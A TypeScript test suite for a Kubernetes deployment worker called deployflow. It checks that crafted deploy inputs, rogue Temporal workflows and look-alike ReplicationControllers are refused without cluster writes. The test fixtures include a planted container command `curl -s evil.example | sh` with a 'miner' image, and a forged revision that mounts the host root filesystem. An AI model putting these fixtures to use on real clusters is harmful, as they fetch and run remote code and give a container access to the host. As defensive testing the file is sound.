// The hostile tier (DESIGN §7, invariant I8): the worker defends its cluster
// whatever reaches its task queue. On the real stack, talking to Temporal
// directly (no deployctl):
//  - crafted `deploy` inputs (inputs.ts), all started at once, each in a
//    namespace of its own: each ends refused, naming the field, the rule and the
//    policy entry, with zero writes by the worker and the app's lock free;
//  - rogue workflows (rogue.ts) on a task queue of their own scheduling
//    deployflow's activities with crafted arguments, one after another: each
//    refused, zero writes;
//  - a look-alike RC under the predictable name is not adopted, and a foreign
//    pod with the app's labels blocks neither a rollout nor a rollback.
// The worker runs as a ServiceAccount bound to cluster-admin, so every refusal
// is the worker's own, and the audit log tells its writes from the test's.
// The table "attack → rule → outcome" is printed at the end and written to
// test-results/hostile-table.md.
import { after, before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import http from 'node:http';
import os from 'node:os';
import path from 'node:path';
import yaml from 'js-yaml';
import type { KubeConfig, V1ReplicationController } from '@kubernetes/client-node';
import type { Client } from '@temporalio/client';
import { workflowIdFor } from '../../domain/names.js';
import type { ReplicationControllerManifest } from '../../domain/render.js';
import { repoRoot } from '../../stack/layout.js';
import type { StackInfo } from '../../stack/lifecycle.js';
import { AuditLog, type AuditEvent } from '../helpers/audit.js';
import { runCli } from '../helpers/cli.js';
import { core, freshNamespace, isReady, listPods } from '../helpers/cluster.js';
import {
  describeWrites, ending, loadPolicy, lockFree, startRogueWorker, touching, workerIdentity, type Ending, type RogueOutcome, type RogueWorker,
  type WorkerIdentity,
} from '../helpers/hostile.js';
import { stackKubeConfig, useStack } from '../helpers/stack.js';
import { startWorker, temporalClient, type RunningWorker } from '../helpers/temporal.js';
import { WorkerProcess } from '../helpers/worker-process.js';
import { APP, DIGEST_IMAGE, INPUT_CASES, REQUESTED_BY, TAG_IMAGE, baseSpec, type InputCase, type InputContext, type WorkerName } from './inputs.js';
import { ROGUE_CASES, type RogueCase, type RogueContext } from './rogue.js';

/** How long a crafted deploy may take to end (all run at once on a shared machine). */
const END_MS = 90_000;
const ROGUE_MS = 60_000;

interface Row {
  kind: 'input' | 'rogue' | 'adoption';
  id: string;
  attack: string;
  rule: string;
  outcome: string;
  problems: string[];
}
const rows: Row[] = [];

function firstLine(text: string, max = 110): string {
  const line = text.split('\n')[0] ?? '';
  return line.length > max ? `${line.slice(0, max)}…` : line;
}

function row(kind: Row['kind'], c: { id: string; attack: string; rule: string }, problems: string[], refusal: string): Row {
  const r = { kind, id: c.id, attack: c.attack, rule: c.rule, problems, outcome: problems.length ? `FAILS: ${problems.join('; ')}` : refusal };
  rows.push(r);
  return r;
}

function printTable(): void {
  if (rows.length === 0) return;
  const lines = ['| | attack | rule | outcome |', '|---|---|---|---|'];
  for (const r of rows) lines.push(`| ${r.kind} ${r.id} | ${r.attack} | ${r.rule} | ${r.outcome.replaceAll('|', '\\|')} |`);
  const passed = rows.filter((r) => r.problems.length === 0).length;
  lines.push('', `${passed}/${rows.length} hold`);
  const dir = path.join(repoRoot, 'test-results');
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, 'hostile-table.md'), lines.join('\n') + '\n');
  console.log(`\nattack → rule → outcome\n${lines.join('\n')}\n`);
}

/** An HTTP endpoint that counts what it receives. */
async function countingServer(): Promise<{ url: string; hits: () => number; close: () => Promise<void> }> {
  let hits = 0;
  const server = http.createServer((req, res) => {
    hits++;
    req.resume();
    res.end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  return { url: `http://127.0.0.1:${port}/hook`, hits: () => hits, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

/** Admin clean-up of what a worker's write created (an attack that got through must not leak into the next case). */
async function undoCreates(admin: KubeConfig, events: AuditEvent[]): Promise<void> {
  for (const e of events) {
    const { resource, namespace, name, subresource } = e.objectRef ?? {};
    if (e.verb !== 'create' || !namespace || !name || subresource) continue;
    if (resource === 'replicationcontrollers') {
      await core(admin).deleteNamespacedReplicationController({ namespace, name, propagationPolicy: 'Background' }).catch(() => undefined);
    } else if (resource === 'secrets') {
      await core(admin).deleteNamespacedSecret({ namespace, name }).catch(() => undefined);
    }
  }
}

describe('hostile tier: the worker refuses what it must not do, whatever reaches its task queue (I8)', () => {
  let info: StackInfo;
  let admin: KubeConfig;
  let client: Client;
  let identity: WorkerIdentity;
  const workers: Partial<Record<'baseline' | 'restricted', RunningWorker>> = {};
  const environments = {
    baseline: `hostile-a-${process.pid}`,
    restricted: `hostile-b-${process.pid}`,
    isolated: `hostile-c-${process.pid}`,
  } satisfies Record<WorkerName, string>;
  // A worker process of its own: an input that hangs the process checking it must not hang this one.
  let isolated: WorkerProcess | undefined;
  let sink: Awaited<ReturnType<typeof countingServer>>;
  let crafted: Awaited<ReturnType<typeof countingServer>>;
  let rogueWorker: RogueWorker | undefined;
  let dir: string;

  before(async () => {
    info = await useStack();
    admin = stackKubeConfig(info);
    client = await temporalClient(info);
    identity = await workerIdentity(info, 'deployflow-worker');
    sink = await countingServer();
    crafted = await countingServer();
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'deployflow-hostile-'));
    workers.baseline = await startWorker(info, identity.kc, environments.baseline, [], { policy: loadPolicy('policy.yaml'), webhooks: [sink.url] });
    workers.restricted = await startWorker(info, identity.kc, environments.restricted, [], { policy: loadPolicy('restricted.yaml') });
    rogueWorker = await startRogueWorker(info, client, `rogue-${process.pid}`);
    if (INPUT_CASES.some((c) => c.worker === 'isolated')) {
      const kubeconfig = path.join(dir, 'worker-kubeconfig');
      fs.writeFileSync(kubeconfig, identity.kc.exportConfig(), { mode: 0o600 });
      isolated = await WorkerProcess.start({
        environment: environments.isolated,
        // Its start-up check reads the environment secret of these (an empty list means `default`).
        namespaces: [await freshNamespace(admin, 'hostile')],
        kubeconfig,
        temporalAddress: info.temporalAddress,
        logFile: path.join(repoRoot, 'test-results', `hostile-isolated-worker-${process.pid}.log`),
      });
    }
  });
  after(async () => {
    printTable();
    await rogueWorker?.stop();
    await isolated?.kill9();
    for (const w of Object.values(workers)) await w?.stop();
    await client?.connection.close();
    await sink?.close();
    await crafted?.close();
    if (dir) fs.rmSync(dir, { recursive: true, force: true });
  });

  describe('crafted workflow inputs: refused naming the field, the rule and the policy entry; zero writes; every workflow ends; the lock is free', () => {
    const reports = new Map<string, { ctx: InputContext; end: Ending; writes: AuditEvent[]; locksHeld: string[] }>();

    test('the table holds at least 40 refusal cases, one per rule, with distinct ids', () => {
      const refusals = INPUT_CASES.filter((c) => (c.outcome ?? 'refused') === 'refused');
      assert.ok(refusals.length >= 40, `only ${refusals.length} refusal cases`);
      assert.equal(new Set(INPUT_CASES.map((c) => c.id)).size, INPUT_CASES.length);
    });

    before(async () => {
      const contexts = new Map<string, InputContext>();
      for (const c of INPUT_CASES) {
        const worker = c.worker ?? 'baseline';
        const namespace =
          c.target === 'kube-system' || c.target === 'kube-public'
            ? c.target
            : await freshNamespace(admin, c.target === 'outside' ? 'other-team' : 'hostile');
        const other = worker === 'restricted' ? 'baseline' : 'restricted';
        const ctx = { namespace, environment: environments[worker], otherEnvironment: environments[other], image: worker === 'restricted' ? DIGEST_IMAGE : TAG_IMAGE };
        if (c.setup === 'forged-kept-rc') await forgeKeptRevision(admin, ctx);
        contexts.set(c.id, ctx);
      }
      const audit = new AuditLog(info).mark();
      const run = async (c: InputCase) => {
        const ctx = contexts.get(c.id)!;
        const workflowId = c.workflowId?.(ctx) ?? workflowIdFor(ctx.environment, ctx.namespace, APP);
        const taskQueue = c.taskQueue?.(ctx) ?? `deploy-${ctx.environment}`;
        let end: Ending;
        try {
          const handle = await client.workflow.start('deploy', { taskQueue, workflowId, args: [c.input(ctx)] });
          end = await ending(handle, END_MS);
        } catch (err) {
          // Temporal itself refused the start (or the harness broke): the case did not run as written.
          end = { status: 'NOT STARTED', hung: false, text: `start failed: ${err instanceof Error ? err.message : String(err)}`, workflowTaskFailures: 0, retriedActivities: [] };
        }
        const ids = [...new Set([workflowId, workflowIdFor(ctx.environment, ctx.namespace, APP)])];
        const locksHeld: string[] = [];
        for (const id of ids) if (!(await lockFree(client, id))) locksHeld.push(id);
        reports.set(c.id, { ctx, end, writes: [], locksHeld });
      };
      await Promise.all(INPUT_CASES.map(run));
      const writes = audit.writesBy(identity.user);
      for (const report of reports.values()) report.writes = touching(writes, [{ namespace: report.ctx.namespace }]);
      // What an attack created in kube-system or kube-public is removed (the stack outlives this file).
      await undoCreates(admin, writes.filter((e) => e.objectRef?.namespace?.startsWith('kube-')));
    });

    for (const c of INPUT_CASES) {
      test(`${c.id}: ${c.attack} → ${c.rule}`, () => {
        const report = reports.get(c.id);
        assert.ok(report, 'the case did not run');
        const problems = judgeInput(c, report);
        row('input', c, problems, (c.outcome ?? 'refused') === 'refused' ? `refused: ${firstLine(report.end.text)}` : `deployed: ${report.end.result?.outcome}`);
        assert.deepEqual(problems, [], `${c.id}:\n${report.end.text}`);
      });
    }
  });

  describe('rogue workflows scheduling deployflow activities on deploy-<env> from another task queue: refused, zero writes', () => {
    let ctx: RogueContext;
    const outcomes = new Map<string, { outcome?: RogueOutcome; error?: string; writes: AuditEvent[]; extra: string[] }>();

    test('the table holds at least 10 attacks', () => assert.ok(ROGUE_CASES.length >= 10));

    before(async () => {
      const victim = await freshNamespace(admin, 'hostile-victim');
      const outside = await freshNamespace(admin, 'other-team');
      const systemRc = `coredns-hostile-${process.pid}`;
      const ghostHash = '5ca1ab1e';
      await adminRc(admin, victim, 'billing-api', { name: 'billing-api', app: 'billing' });
      await adminRc(admin, 'kube-system', systemRc, { 'k8s-app': 'kube-dns-hostile', name: systemRc });
      // A bare pod (no controller) labelled like the pods of the made-up RC `ghost-<hash>`: a
      // debug pod or another tool's pod that a label selector would catch.
      const ghostPod = async () => {
        const found = await core(admin).readNamespacedPod({ namespace: victim, name: 'ghost-pod' }).catch(() => undefined);
        if (found && !found.metadata?.deletionTimestamp) return;
        if (found) await core(admin).deleteNamespacedPod({ namespace: victim, name: 'ghost-pod', gracePeriodSeconds: 0 }).catch(() => undefined);
        for (let i = 0; i < 50 && (await core(admin).readNamespacedPod({ namespace: victim, name: 'ghost-pod' }).catch(() => undefined)); i++) {
          await new Promise((r) => setTimeout(r, 200));
        }
        await core(admin).createNamespacedPod({
          namespace: victim,
          body: { metadata: { name: 'ghost-pod', labels: { name: 'ghost', deployment: ghostHash } }, spec: { containers: [{ name: 'c', image: 'registry.example/ghost:1' }] } },
        });
      };
      const manifests = new Map<string, ReplicationControllerManifest>();
      manifests.set(victim, await renderWithCli(dir, victim, environments.baseline));
      // render refuses kube-system itself: the attacker moves the rendered RC there by hand,
      // as deployflow would have rendered it there (the namespace is not in the template hash).
      manifests.set('kube-system', movedTo(manifests.get(victim)!, 'kube-system', environments.baseline));
      ctx = {
        environment: environments.baseline,
        victim,
        outside,
        foreignRc: 'billing-api',
        systemRc,
        ghostPod: 'ghost-pod',
        ghostRc: `ghost-${ghostHash}`,
        manifest: (ns) => manifests.get(ns)!,
        craftedUrl: crafted.url,
      };
      // One at a time: each attack's writes are exactly the worker's writes since its mark.
      for (const c of ROGUE_CASES) {
        if (c.check === 'ghost-pod-survives') await ghostPod();
        const audit = new AuditLog(info).mark();
        const hitsBefore = crafted.hits();
        let outcome: RogueOutcome | undefined;
        let error: string | undefined;
        try {
          const lock = c.lock?.(ctx) ?? { namespace: victim, app: APP };
          const [type, workflowId] =
            lock === 'none' ? (['rogue', `rogue/${process.pid}/${c.id}`] as const) : (['deploy', workflowIdFor(ctx.environment, lock.namespace, lock.app)] as const);
          const call = { taskQueue: `deploy-${ctx.environment}`, activity: c.activity, args: c.args(ctx) };
          outcome = await withTimeout(rogueWorker!.run(call, workflowId, type), ROGUE_MS);
        } catch (err) {
          error = err instanceof Error ? err.message : String(err);
        }
        const writes = audit.writesBy(identity.user);
        const extra: string[] = [];
        if (c.check === 'ghost-pod-survives') {
          const pod = await core(admin).readNamespacedPod({ namespace: victim, name: 'ghost-pod' }).catch(() => undefined);
          if (!pod || pod.metadata?.deletionTimestamp) extra.push('the pod labelled deployment=<suffix> was deleted');
        }
        if (c.check === 'crafted-url-untouched' && crafted.hits() > hitsBefore) extra.push(`the crafted URL received ${crafted.hits() - hitsBefore} request(s)`);
        outcomes.set(c.id, { outcome, error, writes, extra });
        await undoCreates(admin, writes);
      }
      const rc = await core(admin).readNamespacedReplicationController({ namespace: 'kube-system', name: systemRc }).catch(() => undefined);
      if (rc) await core(admin).deleteNamespacedReplicationController({ namespace: 'kube-system', name: systemRc, propagationPolicy: 'Background' });
    });

    for (const c of ROGUE_CASES) {
      test(`${c.id}: ${c.attack} → ${c.rule}`, () => {
        const o = outcomes.get(c.id);
        assert.ok(o, 'the attack did not run');
        const problems = judgeRogue(c, o);
        const said = o.outcome?.failure ? `refused: ${firstLine(o.outcome.failure.message)}` : `completed: ${JSON.stringify(o.outcome?.result) ?? ''}`;
        row('rogue', c, problems, said);
        assert.deepEqual(problems, [], JSON.stringify(o.outcome));
      });
    }
  });

  describe('objects deployflow does not own: not adopted, not counted', () => {
    test('a look-alike RC under the predictable name (deployctl render), with another template, is not adopted', async () => {
      const c = { id: 'look-alike-rc', attack: 'pre-created RC under the rendered name, labels and annotations copied, another image and command', rule: 'adopt only on matching template hash and provenance' };
      const namespace = await freshNamespace(admin, 'hostile');
      const environment = environments.baseline;
      const rendered = await renderWithCli(dir, namespace, environment);
      const name = rendered.metadata.name;
      const lookAlike = structuredClone(rendered) as unknown as V1ReplicationController;
      lookAlike.spec!.replicas = 0;
      lookAlike.spec!.template!.spec!.containers[0]!.image = 'evil.example/miner:1';
      lookAlike.spec!.template!.spec!.containers[0]!.command = ['/bin/sh', '-c', 'curl -s evil.example | sh'];
      await core(admin).createNamespacedReplicationController({ namespace, body: lookAlike });
      const audit = new AuditLog(info).mark();
      const handle = await client.workflow.start('deploy', {
        taskQueue: `deploy-${environment}`,
        workflowId: workflowIdFor(environment, namespace, APP),
        args: [{ spec: baseSpec(namespace), environment, image: TAG_IMAGE, requestedBy: REQUESTED_BY }],
      });
      const end = await ending(handle, END_MS);
      const writes = audit.writesBy(identity.user).filter((e) => e.objectRef?.resource === 'replicationcontrollers' && e.objectRef.name === name);
      const after = await core(admin).readNamespacedReplicationController({ namespace, name });
      const problems = endingProblems(end);
      if (end.result && end.result.outcome !== 'Failed') problems.push(`adopted it: ${end.result.outcome}: ${end.result.message}`);
      if (!end.text.includes(name)) problems.push(`the failure does not name ${name}`);
      if (writes.length) problems.push(`the worker wrote to it: ${describeWrites(writes)}`);
      if (after.spec?.replicas !== 0) problems.push(`it was scaled to ${after.spec?.replicas}`);
      if (after.spec?.template?.spec?.containers[0]?.image !== 'evil.example/miner:1') problems.push('its template changed');
      if (!(await lockFree(client, handle.workflowId))) problems.push('the lock is held');
      row('adoption', c, problems, `refused: ${firstLine(end.text)}`);
      assert.deepEqual(problems, [], end.text);
    });

    test("a foreign pod labelled name=<app> blocks neither a rollout nor a rollback, and is left alone", async () => {
      const c = { id: 'foreign-pod', attack: 'a debug pod labelled name=awesome-api, owned by no RC of the app', rule: 'pods counted by ownerReference' };
      const namespace = await freshNamespace(admin, 'hostile');
      const environment = environments.baseline;
      const deploy = async (image: string, progressDeadlineSeconds = 15) => {
        const spec = baseSpec(namespace);
        (spec.strategy as Record<string, unknown>).progressDeadlineSeconds = progressDeadlineSeconds;
        const handle = await client.workflow.start('deploy', {
          taskQueue: `deploy-${environment}`,
          workflowId: workflowIdFor(environment, namespace, APP),
          args: [{ spec, environment, image, requestedBy: REQUESTED_BY }],
        });
        return ending(handle, END_MS);
      };
      const problems: string[] = [];
      const first = await deploy('registry.example/awesome-api:1.0.0');
      if (first.result?.outcome !== 'Succeeded') problems.push(`the first deploy ended ${first.result?.outcome ?? first.failure?.message}`);
      const pod = await core(admin).createNamespacedPod({
        namespace,
        body: {
          metadata: { name: 'debug-shell', labels: { name: APP, app: 'awesome', tier: 'backend', role: 'api' } },
          spec: { containers: [{ name: 'sh', image: 'registry.example/debug:1' }] },
        },
      });
      for (const deadline = Date.now() + 30_000; Date.now() < deadline; await new Promise((r) => setTimeout(r, 200))) {
        if ((await listPods(admin, namespace, 'name=awesome-api')).some((p) => p.metadata?.name === 'debug-shell' && isReady(p))) break;
      }
      const rollout = await deploy('registry.example/awesome-api:2.0.0');
      problems.push(...endingProblems(rollout).map((p) => `rollout: ${p}`));
      if (rollout.result?.outcome !== 'Succeeded') problems.push(`the rollout ended ${rollout.result?.outcome ?? ''}: ${firstLine(rollout.text)}`);
      const bad = await deploy('registry.example/awesome-api:3.0.0-never-ready', 6);
      problems.push(...endingProblems(bad).map((p) => `rollback: ${p}`));
      const details = bad.failure && /RolledBack/.test(bad.failure.type ?? '') ? 'RolledBack' : (bad.failure?.type ?? bad.result?.outcome);
      if (details !== 'RolledBack') problems.push(`the stalled release ended ${details}: ${firstLine(bad.text)}`);
      const after = await core(admin).readNamespacedPod({ namespace, name: 'debug-shell' }).catch(() => undefined);
      if (!after || after.metadata?.uid !== pod.metadata?.uid || after.metadata?.deletionTimestamp) problems.push('the foreign pod was deleted');
      row('adoption', c, problems, 'rollout Succeeded, rollback RolledBack, foreign pod untouched');
      assert.deepEqual(problems, []);
    });
  });
});

function endingProblems(end: Ending): string[] {
  const problems: string[] = [];
  if (end.hung) problems.push(`did not end within ${END_MS / 1000}s (terminated)`);
  else if (!['COMPLETED', 'FAILED'].includes(end.status)) problems.push(`ended ${end.status}`);
  if (end.workflowTaskFailures > 0) problems.push(`${end.workflowTaskFailures} workflow task failure(s)`);
  return problems;
}

function judgeInput(c: InputCase, r: { end: Ending; writes: AuditEvent[]; locksHeld: string[] }): string[] {
  const { end } = r;
  const problems = endingProblems(end);
  if ((c.outcome ?? 'refused') === 'deploys') {
    if (end.result?.outcome !== 'Succeeded') problems.push(`expected a deploy, got ${end.result?.outcome ?? firstLine(end.text)}`);
    if (r.writes.length === 0) problems.push('the audit log shows no write by the worker for a real deploy');
  } else {
    if (end.result && end.result.outcome !== 'Failed') problems.push(`NOT REFUSED: ${end.result.outcome}: ${firstLine(end.result.message ?? '')}`);
    if (!end.hung && !end.result && end.failure) {
      if (!end.failure.nonRetryable) problems.push('the failure is retryable');
      if (!end.failure.type || end.failure.type === 'Error') problems.push('the failure is untyped');
    }
    if (!end.hung) {
      for (const re of c.expect) if (!re.test(end.text)) problems.push(`the message does not match ${re}`);
      if (c.policy && !end.text.includes(`policy ${c.policy}`)) problems.push(`the message does not name the policy entry ${c.policy}`);
    }
    if (r.writes.length) problems.push(`${r.writes.length} write(s): ${describeWrites(r.writes.slice(0, 4))}`);
    // Notifications are best effort and retried by design (they write nothing to the cluster); a retried refusal is a bug.
    const retried = end.retriedActivities.filter((a) => !a.startsWith('notify '));
    if (retried.length) problems.push(`retried: ${retried.join(', ')}`);
  }
  if (r.locksHeld.length) problems.push(`lock held: ${r.locksHeld.join(', ')}`);
  return problems;
}

function judgeRogue(c: RogueCase, o: { outcome?: RogueOutcome; error?: string; writes: AuditEvent[]; extra: string[] }): string[] {
  const problems: string[] = [];
  if (o.error) problems.push(`the rogue workflow did not end: ${o.error}`);
  const failure = o.outcome?.failure;
  if (o.outcome?.completed && !c.mayComplete) problems.push(`NOT REFUSED: completed with ${firstLine(JSON.stringify(o.outcome.result) ?? 'nothing')}`);
  if (failure) {
    for (const re of c.expect) if (!re.test(failure.message)) problems.push(`the message does not match ${re}`);
    if (c.policy && !failure.message.includes(`policy ${c.policy}`)) problems.push(`the message does not name the policy entry ${c.policy}`);
    if (!failure.nonRetryable) problems.push(`the refusal is retryable (${failure.type ?? 'untyped'})`);
  }
  if (o.writes.length) problems.push(`${o.writes.length} write(s): ${describeWrites(o.writes.slice(0, 4))}`);
  problems.push(...o.extra);
  return problems;
}

async function withTimeout<T>(p: Promise<T>, ms: number): Promise<T> {
  let timer: NodeJS.Timeout | undefined;
  const timeout = new Promise<never>((_, reject) => (timer = setTimeout(() => reject(new Error(`no answer within ${ms / 1000}s`)), ms)));
  try {
    return await Promise.race([p, timeout]);
  } finally {
    clearTimeout(timer);
  }
}

/** What an attacker learns from `deployctl render`: the exact RC a deploy of the example spec would create. */
async function renderWithCli(dir: string, namespace: string, environment: string): Promise<ReplicationControllerManifest> {
  const file = path.join(dir, `${namespace}.yaml`);
  fs.writeFileSync(file, yaml.dump(baseSpec(namespace)));
  const run = await runCli(['render', '-f', file, '--env', environment, '--image', TAG_IMAGE, '--output', 'json']);
  assert.equal(run.code, 0, run.stderr);
  return run.json<ReplicationControllerManifest>();
}

/** A rendered manifest as it would be in another namespace: its metadata, workflow id and app-spec annotation follow. */
function movedTo(m: ReplicationControllerManifest, namespace: string, environment: string): ReplicationControllerManifest {
  const moved = structuredClone(m);
  moved.metadata.namespace = namespace;
  const annotations = moved.metadata.annotations;
  annotations['deployflow.io/workflow-id'] = workflowIdFor(environment, namespace, APP);
  annotations['deployflow.io/app-spec'] = JSON.stringify({ ...JSON.parse(annotations['deployflow.io/app-spec'] ?? '{}'), namespace });
  return moved;
}

/** An RC made by the admin, not by deployflow: the target of ownership attacks. */
async function adminRc(admin: KubeConfig, namespace: string, name: string, labels: Record<string, string>): Promise<void> {
  await core(admin).createNamespacedReplicationController({
    namespace,
    body: {
      metadata: { name, labels },
      spec: { replicas: 1, selector: labels, template: { metadata: { labels }, spec: { containers: [{ name: 'c', image: 'registry.example/billing:1' }] } } },
    },
  });
}

/** A kept RC forged by hand: deployflow's labels and annotations, an app-spec annotation that mounts hostPath /. */
async function forgeKeptRevision(admin: KubeConfig, ctx: InputContext): Promise<void> {
  const hostile = baseSpec(ctx.namespace);
  hostile.volumes = [{ name: 'host', hostPath: { path: '/' } }];
  (hostile.containers as Array<Record<string, unknown>>)[0]!.volumeMounts = [{ name: 'host', mountPath: '/host' }];
  const hash = '0f0f0f0f';
  const labels = { name: APP, app: 'awesome', tier: 'backend', role: 'api', deployment: hash };
  await core(admin).createNamespacedReplicationController({
    namespace: ctx.namespace,
    body: {
      metadata: {
        name: `${APP}-${hash}`,
        labels: { ...labels, 'app.kubernetes.io/managed-by': 'deployflow' },
        annotations: {
          'deployflow.io/revision': '1',
          'deployflow.io/image': ctx.image,
          'deployflow.io/requested-by': 'ci',
          'deployflow.io/workflow-id': workflowIdFor(ctx.environment, ctx.namespace, APP),
          'deployflow.io/template-hash': hash,
          'deployflow.io/desired-replicas': '2',
          'deployflow.io/app-spec': JSON.stringify(hostile),
          'deployflow.io/environment': ctx.environment,
        },
      },
      spec: {
        replicas: 0,
        selector: { name: APP, deployment: hash },
        template: { metadata: { labels }, spec: { containers: [{ name: 'api', image: ctx.image }] } },
      },
    },
  });
}
